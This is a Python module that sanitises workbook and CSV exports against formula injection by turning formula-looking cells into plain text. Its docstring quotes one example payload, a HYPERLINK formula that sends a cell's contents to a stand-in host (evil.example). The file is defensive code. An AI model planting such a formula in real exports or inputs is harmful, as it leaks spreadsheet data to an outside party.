"""Cells that every export writes as plain text, never as a live formula (CSV/formula injection).

A task title such as `=HYPERLINK("http://evil.example/?x="&A1,"x")` typed in the API or imported from a
任务分解表 must reach the reader's spreadsheet as the text it is. Every export goes through here:
workbooks through `plain_workbook`, CSV rows through `plain_csv_row`.
"""

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl import Workbook

#: What a spreadsheet program may read as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def plain_workbook(book: "Workbook") -> "Workbook":
    """Turn every formula-looking cell into an explicit string cell; Excel then shows it, never runs it.

    openpyxl stores a text starting with "=" as a formula; the other starts are already stored as
    strings in .xlsx, which no spreadsheet evaluates.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or looks_like_formula(cell.value):
                    cell.data_type = "s"
    return book


def plain_csv_row(row: Iterable[Any]) -> list[Any]:
    """A CSV row with a leading apostrophe on every formula-looking text, as spreadsheet programs expect."""
    return [f"'{value}" if looks_like_formula(value) else value for value in row]
